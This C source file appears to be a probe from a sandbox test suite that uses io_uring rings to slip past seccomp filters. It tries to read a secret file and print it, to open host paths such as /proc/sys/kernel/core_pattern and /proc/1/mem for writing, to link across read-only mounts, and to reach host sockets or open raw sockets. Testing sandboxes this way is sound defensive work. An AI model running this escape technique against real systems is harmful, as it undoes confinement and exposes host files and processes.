/* Has the kernel do by a ring of io_uring, past the filters of system calls, what it must not do itself: opens the host's files, makes
 * some, speaks with the host's sockets, asks for kinds of sockets that are root's, renames and links across what is read-only.
 * goal: a file, a socket or a process of the host's
 * stopped by: the system call filter; where rings are allowed mounts, Landlock, ids and an empty network, which hold for requests as for calls
 * first: seccomp
 * second: ids capabilities mounts landlock network
 */
#include "attack.h"
#include <linux/io_uring.h>
static int ring;
static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_sqe *sqes;
static struct io_uring_cqe *cqes;
static int make(unsigned flags) {
    struct io_uring_params p = { .flags = flags };
    ring = syscall(SYS_io_uring_setup, 8, &p);
    if (ring < 0) return -1;
    char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof *cqes, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    sqes = mmap(0, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return -1;
    sq_tail = (void *)(sq + p.sq_off.tail), sq_mask = (void *)(sq + p.sq_off.ring_mask), sq_array = (void *)(sq + p.sq_off.array);
    cq_head = (void *)(cq + p.cq_off.head), cq_tail = (void *)(cq + p.cq_off.tail), cq_mask = (void *)(cq + p.cq_off.ring_mask);
    cqes = (void *)(cq + p.cq_off.cqes);
    return 0;
}
static int request(struct io_uring_sqe wanted) {
    unsigned tail = *sq_tail, at = tail & *sq_mask;
    sqes[at] = wanted, sq_array[at] = at;
    __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS | IORING_ENTER_SQ_WAKEUP, 0, 0) < 0) return -errno;
    unsigned head = *cq_head;
    if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) return -EAGAIN;
    int result = cqes[head & *cq_mask].res;
    __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
    return result;
}
static int opened(const char *path, int flags, int how) {
    return request((struct io_uring_sqe){ .opcode = IORING_OP_OPENAT, .flags = how, .fd = AT_FDCWD, .addr = (uintptr_t)path, .len = 0600, .open_flags = flags });
}
static void speak(int family, int kind, int protocol, const void *place, socklen_t length) {
    /* IORING_OP_SOCKET, by its number: headers may be older. */
    int fd = request((struct io_uring_sqe){ .opcode = 45, .fd = family, .off = kind, .len = protocol });
    if (fd < 0) return;
    if (!place) reached("a socket of family %d, type %d", family, kind);
    else request((struct io_uring_sqe){ .opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)place, .off = length });
    close(fd);
}
static void go(int how) {
    char text[4096], path[PATH_MAX];
    int fd = opened(aim("ATTACK_SECRET"), O_RDONLY, how);
    ssize_t length = fd < 0 ? -1 : request((struct io_uring_sqe){ .opcode = IORING_OP_READ, .fd = fd, .addr = (uintptr_t)text, .len = sizeof text });
    if (length > 0) dprintf(1, "%.*s\n", (int)length, text);
    if (opened(aim("ATTACK_FILE"), O_WRONLY, how) >= 0) reached("the file outside was opened");
    snprintf(path, sizeof path, "%s/made", aim("ATTACK_DIR"));
    opened(path, O_CREAT | O_WRONLY, how);
    const char *const places[] = { "/usr/bin/env", "/usr/made", "/etc/made", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/mem" };
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) if ((fd = opened(places[i], i == 1 || i == 2 ? O_CREAT | O_WRONLY : O_WRONLY, how)) >= 0) {
        /* /dev/null lies over some. */
        struct stat is;
        if (fstat(fd, &is) || !S_ISCHR(is.st_mode)) reached("%s was opened for writing", places[i]);
    }
    request((struct io_uring_sqe){ .opcode = IORING_OP_MKDIRAT, .flags = how, .fd = AT_FDCWD, .addr = (uintptr_t)path, .len = 0700 });
    request((struct io_uring_sqe){ .opcode = IORING_OP_LINKAT, .flags = how, .fd = AT_FDCWD, .addr = (uintptr_t)aim("ATTACK_FILE"), .len = AT_FDCWD, .addr2 = (uintptr_t)"linked" });
    if (access("linked", F_OK) == 0) reached("a link to the file outside");
    struct sockaddr_in host = { .sin_family = AF_INET, .sin_port = htons(figure("ATTACK_PORT")), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    speak(AF_INET, SOCK_STREAM, 0, &host, sizeof host);
    struct sockaddr_un file = { .sun_family = AF_UNIX }, name = { .sun_family = AF_UNIX };
    snprintf(file.sun_path, sizeof file.sun_path, "%s", aim("ATTACK_SOCKET"));
    snprintf(name.sun_path + 1, sizeof name.sun_path - 1, "%s", aim("ATTACK_ABSTRACT"));
    speak(AF_UNIX, SOCK_STREAM, 0, &file, sizeof file);
    speak(AF_UNIX, SOCK_STREAM, 0, &name, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(aim("ATTACK_ABSTRACT")));
    speak(AF_PACKET, SOCK_RAW, 0, 0, 0);
    speak(AF_INET, SOCK_RAW, IPPROTO_ICMP, 0, 0);
    speak(AF_KEY, SOCK_RAW, 2, 0, 0);
}
int main(void) {
    /* In the call itself, on a thread of the kernel's, and on one that polls. */
    if (make(0) == 0) go(0), go(IOSQE_ASYNC), close(ring);
    if (make(IORING_SETUP_SQPOLL) == 0) go(0), close(ring);
    return tried();
}
